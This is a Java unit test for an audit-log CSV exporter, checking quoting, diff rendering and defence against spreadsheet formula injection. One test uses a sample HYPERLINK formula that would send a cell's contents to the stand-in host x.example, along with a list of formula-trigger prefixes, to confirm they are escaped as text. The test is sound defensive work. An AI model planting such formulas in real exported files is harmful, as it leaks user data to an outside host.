package dev.moddesk.app.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.moddesk.contract.AuditEntry;
import java.io.StringWriter;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class AuditCsvTest {
    @Test
    void quotesOnlyWhenNeededAndDoublesQuotes() {
        assertThat(AuditCsv.quote("plain 北京")).isEqualTo("plain 北京");
        assertThat(AuditCsv.quote("a,b")).isEqualTo("\"a,b\"");
        assertThat(AuditCsv.quote("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(AuditCsv.quote("two\r\nlines")).isEqualTo("\"two\r\nlines\"");
        assertThat(AuditCsv.quote("")).isEmpty();
    }

    @Test
    void cellsASpreadsheetWouldEvaluateAreWrittenAsText() throws Exception {
        String attack = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
        StringWriter out = new StringWriter();
        AuditCsv csv = new AuditCsv(out);
        csv.write(new AuditEntry(7, Instant.parse("2026-12-03T08:00:00Z"), null, attack, "session.login_failed",
                "session", attack, null, null, "+1 then -1", "@127.0.0.1"));
        assertThat(out.toString()).startsWith("7,2026-12-03T08:00:00Z,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,"
                + "\"\"open\"\")\",session.login_failed,session,\"'=HYPERLINK(");
        assertThat(out.toString()).contains(",\"'+1 then -1\",\"'@127.0.0.1\",");
        for (String lead : List.of("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) {
            assertThat(AuditCsv.quote(lead + "SUM(A1)")).startsWith("\"'" + lead);
        }
        assertThat(AuditCsv.quote("zhou.min")).isEqualTo("zhou.min");
        assertThat(AuditCsv.quote("a=b")).isEqualTo("a=b");
    }

    @Test
    void diffRendersNonStringsAsJson() {
        assertThat(AuditDiff.render(java.util.List.of("北京", "上海"))).isEqualTo("[\"北京\",\"上海\"]");
        assertThat(AuditDiff.render(null)).isEqualTo("null");
        assertThat(AuditDiff.rows(null, java.util.Map.of("a", 1))).singleElement()
                .satisfies(r -> assertThat(r.change()).isEqualTo(AuditDiff.Change.ADDED));
    }
}
